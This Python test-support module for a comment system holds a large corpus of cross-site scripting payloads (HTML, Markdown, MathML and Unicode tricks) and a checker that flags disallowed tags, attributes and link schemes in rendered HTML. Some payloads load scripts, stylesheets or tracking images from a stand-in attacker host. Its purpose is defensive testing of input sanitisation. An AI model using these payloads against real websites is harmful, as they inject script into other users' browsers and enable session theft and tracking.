"""What a stranger may write where others will read it: a corpus of cross-site scripting
payloads (the OWASP XSS filter evasion cheat sheet's vectors, Markdown link and image tricks,
maths that hides HTML, Unicode bidi and homoglyph text), and a check of served HTML against
what litfeed allows. Shared by the tests of comments (and of anything else readers write)."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="http://example.org" onclick="alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<DIV STYLE="width: expression(alert(1));">x</DIV>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<base href="http://evil.example/">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<img src="http://evil.example/track.png">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<style>@import "http://evil.example/x.css";</style>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<plaintext><img src=x onerror=alert(1)>",
    '<object type="text/x-scriptlet" data="http://evil.example/x.sct"></object>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="onmouseover" to="alert(1)"/>',
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    '<a id="x" tabindex=1 onfocus=alert(1)>x</a>',
    "<p onmouseover=alert(1)>hover</p>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%" onclick=alert(1)>x</span>',
]

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](javascript://%0Aalert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[x](http://example.org "title\\" onmouseover=\\"alert(1)")',
    '[x](http://example.org" onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](http://example.org)",
    "[x](http://example.org)<!-- --><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <svg onload=alert(1)>",
    "**<a href=javascript:alert(1)>x</a>**",
    "[x](https://example.org/?q=<script>)",
    "https://example.org/<script>alert(1)</script>",
    "[x](mailto:a@example.org?body=<script>)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    '[x](#" onclick="alert(1))',
    '[x](\\"javascript:alert(1)\\")',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](http://example.org){onclick=alert(1)}",
    "_[x](javascript:alert(1))_",
    "~~<script>alert(1)</script>~~",
    "[x](//evil.example/%2F..)",
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    '<http://example.org/" onmouseover="alert(1)>',
    "[x](http://example.org/\u202ealert)",
    "<a href='http://example.org'>x</a>",
    "[x](java\u0000script:alert(1))".replace("\u0000", "\u0001"),
]

MATHS_VECTORS = [
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$<img src=x onerror=alert(1)>$",
    "$$</math><script>alert(1)</script>$$",
    "$\\unicode{<img src=x onerror=alert(1)>}$",
    "$\\style{background:url(javascript:alert(1))}{x}$",
    '$\\class{x" onmouseover="alert(1)}{x}$',
    "$\\mathrm{<svg onload=alert(1)>}$",
    "$x$<script>alert(1)</script>",
    "$\\operatorname{<script>}$",
    "$\\url{javascript:alert(1)}$",
    "$\\htmlId{x}{y}$",
    "$\\begin{array}{c}<script>\\end{array}$",
    "$\\mbox{<script>alert(1)</script>}$",
    "$a<b>c$",
    "$\\frac{<script>}{x}$",
    '$\\sqrt{"><img src=x onerror=alert(1)>}$',
    "$$\\text{</div><script>alert(1)</script>}$$",
    "$x$ and `$<script>$`",
    "$\\left<script>\\right>$",
    "$\\color{red}{x}$",
    "$\\def\\x{<script>}\\x$",
    "$\\mathbb{R}^{<img src=x onerror=alert(1)>}$",
    "$\\overset{<script>}{x}$",
    "$\\xrightarrow{<img src=x onerror=alert(1)>}$",
    "$$\\begin{matrix}<svg onload=alert(1)>\\end{matrix}$$",
    '$\\char"3C$script$\\char"3E$',
    "$\\text{\\href{javascript:alert(1)}{x}}$",
    "\\(<script>alert(1)</script>\\)",
    "\\[<img src=x onerror=alert(1)>\\]",
]

UNICODE_VECTORS = [
    "\u202egnp.exe <script>alert(1)</script>",
    "\u2066<script>alert(1)</script>\u2069",
    "<scr\u200bipt>alert(1)</script>",
    "\u0251dmin says: <img src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufeff<script>alert(1)</script>",
    "\u0645\u0631\u062d\u0628\u0627 <img src=x onerror=alert(1)>",
    "a\u0301\u0301\u0301\u0301 <svg onload=alert(1)>",
    "[\u0430dmin](javascript:alert(1))",
    "\u00a0<a href=javascript:alert(1)>x</a>",
]

BASE = HTML_VECTORS + MARKDOWN_VECTORS + MATHS_VECTORS + UNICODE_VECTORS
# Each vector alone, and the raw HTML ones also inside the Markdown a comment is made of.
CORPUS = (
    BASE
    + [f"- {vector}" for vector in HTML_VECTORS]
    + [f"> **quoted** {vector}" for vector in HTML_VECTORS[:40]]
)

# What a comment's HTML may hold (litfeed.discussion.render's allow-list), and the page's own
# parts around it (forms, buttons, times).
MATHML = {
    "math", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "mfrac", "msqrt", "mroot",
    "mstyle", "merror", "mpadded", "mphantom", "menclose", "msub", "msup", "msubsup", "munder",
    "mover", "munderover", "mmultiscripts", "mprescripts", "none", "mtable", "mtr", "mtd",
    "semantics", "annotation",
}  # fmt: skip
CONTENT = {
    "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote", "a", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span",
    "div",
} | MATHML  # fmt: skip
PAGE = {
    "main", "section", "article", "form", "input", "textarea", "button", "details", "summary",
    "label", "time", "small", "select", "option",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "href", "title", "rel", "start", "id", "class", "method", "action", "type", "name",
    "value", "rows", "maxlength", "required", "placeholder", "aria-label", "aria-pressed",
    "aria-current", "datetime", "for", "display", "mathvariant", "stretchy", "fence",
    "separator", "lspace", "rspace", "accent", "accentunder", "movablelimits", "minsize",
    "maxsize", "symmetric", "columnalign", "rowalign", "columnspacing", "rowspacing",
    "columnlines", "rowlines", "frame", "width", "height", "depth", "linethickness",
    "scriptlevel", "displaystyle", "largeop", "form", "notation", "align", "role", "enctype",
    "accept", "multiple", "checked", "selected", "disabled", "autocomplete", "pattern", "min",
    "max", "step", "size", "open", "list", "aria-live", "aria-describedby",
}  # fmt: skip
_CONTROL = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")  # WHATWG URL: what a scheme may be made of


class _Checker(HTMLParser):
    def __init__(self, tags: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.tags = tags
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.problems.append(f"<{tag}> is not allowed")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}=…> is not allowed")
            elif name in ("href", "action") and not safe_address(value or ""):
                self.problems.append(f"<{tag} {name}={value!r}> leads somewhere unsafe")
        if tag == "a" and any(name == "href" for name, _ in attrs):
            rel = dict(attrs).get("rel") or ""
            if "nofollow" not in rel.split() and not (dict(attrs).get("href") or "").startswith(
                ("/", "#")
            ):
                self.problems.append(f"<a> to {dict(attrs).get('href')!r} without rel=nofollow")

    handle_startendtag = handle_starttag


def safe_address(value: str) -> bool:
    """An http(s) or mailto address, or one on this site (a path or a fragment)."""
    bare = _CONTROL.sub("", html.unescape(value)).lower()  # as browsers drop tabs, newlines
    scheme = _SCHEME.match(bare)
    if scheme is None:  # relative: a path here ("//host/…" too: a link elsewhere, as http's)
        return True
    return scheme.group(1) in ("http", "https", "mailto")


def problems(markup: str, page: bool = False) -> list[str]:
    """What in ``markup`` is outside the allow-list (``page``: the page's own forms too)."""
    checker = _Checker(CONTENT | PAGE if page else CONTENT)
    checker.feed(markup)
    checker.close()
    return checker.problems
